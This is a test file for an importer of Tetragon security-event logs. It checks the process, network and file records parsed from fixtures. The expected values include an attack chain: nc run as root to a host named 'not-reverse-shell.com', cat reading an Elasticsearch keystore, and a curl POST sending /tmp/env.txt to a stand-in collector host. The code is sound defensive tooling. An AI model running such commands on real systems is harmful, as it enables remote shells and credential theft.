import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { tetragonImporter } from '../../electron/import/formats/tetragon';
import { formatNanos, parseRfc3339 } from '../../shared/time';
import { fixture, inputFromPath, runImporter } from './formats-harness';

const NC = 'bWluaWt1YmU6MzM0OTc2NzgxOTUzNTozODMxNA==';
const SH = 'bWluaWt1YmU6MzM0OTc2MDUxNjExMTozODMxMg==';
const CAT = 'bWluaWt1YmU6MzM0OTc2NjQ2MjgyMjozODMxMw==';

describe('Tetragon importer: the book samples (pretty-printed)', () => {
  it('process_exec: nc with its parent link by exec_id', async () => {
    const f = fixture('tetragon', 'book_nc_process_exec.json');
    expect(tetragonImporter.sniff(inputFromPath(f))).toBeGreaterThanOrEqual(0.9);
    const out = await runImporter(tetragonImporter, f);
    const nc = out.proc.find((p) => p.key === NC)!;
    expect(nc).toMatchObject({
      event: 'exec', pid: 38314, ppid: 38312, exe: '/usr/bin/nc', uid: 0, cwd: '/usr/share/elasticsearch/',
      args: ['/usr/bin/nc', 'raiz3gjkgtfhkkc.not-reverse-shell.com', '443'], parent_key: SH, line: 1, origin: 'events',
    });
    expect(formatNanos(nc.ts)).toBe('2022-02-01T18:01:56.411000000Z');
    // the parent (sh lifecycle.sh) is implied from the embedded parent object
    const sh = out.proc.find((p) => p.key === SH)!;
    expect(sh).toMatchObject({ event: 'exec', pid: 38312, exe: '/usr/bin/sh', args: ['/usr/bin/sh', 'lifecycle.sh'] });
    expect(sh.parent_key).toBe('bWluaWt1YmU6MTkyNTA0Njg1Nzc1MjoyNDIwMA==');
    expect(out.proc).toHaveLength(2);
    expect(out.warnings).toEqual([]);
  });

  it('legacy process_connect -> network call; process_close -> nothing new; process_exit -> exit 0 (omitted status)', async () => {
    const c = await runImporter(tetragonImporter, fixture('tetragon', 'book_nc_process_connect.json'));
    expect(c.net).toHaveLength(1);
    expect(c.net[0]).toMatchObject({ pid: 38314, ip: '64.225.45.153', port: 443, protocol: 'tcp', process: 'nc', exe: '/usr/bin/nc' });
    expect(formatNanos(c.net[0]!.ts)).toBe('2022-02-01T18:01:56.419000000Z');
    const close = await runImporter(tetragonImporter, fixture('tetragon', 'book_nc_process_close.json'));
    expect(close.net).toHaveLength(0);
    const exit = await runImporter(tetragonImporter, fixture('tetragon', 'book_nc_process_exit.json'));
    const ex = exit.proc.filter((p) => p.event === 'exit');
    expect(ex).toEqual([expect.objectContaining({ pid: 38314, key: NC, exit_code: 0 })]);
    expect(formatNanos(ex[0]!.ts)).toBe('2022-02-01T18:01:57.725000000Z');
  });

  it('process_kprobe __x64_sys_read with file_arg -> file event op read', async () => {
    const out = await runImporter(tetragonImporter, fixture('tetragon', 'book_cat_process_kprobe.json'));
    expect(out.files).toEqual([
      expect.objectContaining({ pid: 38313, exe: '/usr/bin/cat', op: 'read', path: 'usr/share/elasticsearch/config/elasticsearch.keystore' }),
    ]);
    expect(out.proc.find((p) => p.key === CAT)).toMatchObject({ pid: 38313, ppid: 38312, parent_key: SH });
  });

  it('all five documents concatenated in one file, read in 7-byte chunks: same records, one exec per process', async () => {
    const names = ['exec', 'connect', 'close', 'exit'].map((n) => `book_nc_process_${n}.json`).concat('book_cat_process_kprobe.json');
    const data = names.map((n) => readFileSync(fixture('tetragon', n), 'utf8')).join('\n');
    const out = await runImporter(tetragonImporter, { name: 'all.json', data }, { chunk: 7 });
    const execs = out.proc.filter((p) => p.event === 'exec');
    expect(execs.map((p) => p.key).sort()).toEqual([CAT, SH, NC].sort());
    expect(out.proc.filter((p) => p.event === 'exit')).toHaveLength(1);
    expect(out.net).toHaveLength(1);
    expect(out.files).toHaveLength(1);
    // the 2nd document starts on the line after the first one ends
    const firstLen = readFileSync(fixture('tetragon', names[0]!), 'utf8').split('\n').length;
    expect(out.net[0]!.line).toBe(firstLen + 1);
    expect(out.warnings).toEqual([]);
  });
});

describe('Tetragon importer: JSON lines export with tcp_connect', () => {
  it('reads execs, tcp_connect, openat, exits; damaged lines are warnings with their line', async () => {
    const out = await runImporter(tetragonImporter, fixture('tetragon', 'ci-events.jsonl'));
    const curl = out.proc.find((p) => p.event === 'exec' && p.pid === 2460)!;
    expect(curl).toMatchObject({
      ppid: 2300, exe: '/usr/bin/curl', args: ['/usr/bin/curl', '-sS', '-X', 'POST', 'https://collector.example.org/v1/upload', '-d', '@/tmp/env.txt'],
    });
    expect(curl.ts).toBe(parseRfc3339('2026-06-17T08:40:44.001002003Z'));
    expect(out.net).toEqual([
      expect.objectContaining({ pid: 2460, ip: '198.51.100.23', port: 8443, protocol: 'tcp', status: 'allowed', policy: { matched: 'monitor-tcp-connect' }, line: 3 }),
    ]);
    expect(out.net[0]!.ts).toBe(parseRfc3339('2026-06-17T08:40:44.310000001Z'));
    expect(out.files).toEqual([expect.objectContaining({ path: '/tmp/env.txt', op: 'read', pid: 2460, line: 4 })]);
    const exits = out.proc.filter((p) => p.event === 'exit');
    expect(exits.map((e) => [e.pid, e.exit_code])).toEqual([[2460, 7], [2300, 0]]);
    // pid omitted (proto3 default) reads as 0
    expect(out.proc.find((p) => p.exe === '/usr/bin/true')).toMatchObject({ pid: 0, event: 'exec' });
    // Runner.Worker (only seen as a parent) is implied, so the chain reaches the worker
    expect(out.proc.find((p) => p.pid === 1800)).toMatchObject({ event: 'exec', exe: '/home/runner/actions-runner/bin/Runner.Worker' });
    const w = out.warnings.map((x) => `${x.line}: ${x.message}`);
    expect(w).toEqual([
      expect.stringMatching(/^8: damaged JSON/),
      expect.stringMatching(/^9: not a Tetragon event/),
      expect.stringMatching(/^null: 1 Tetragon process_tracepoint/),
    ]);
  });
});
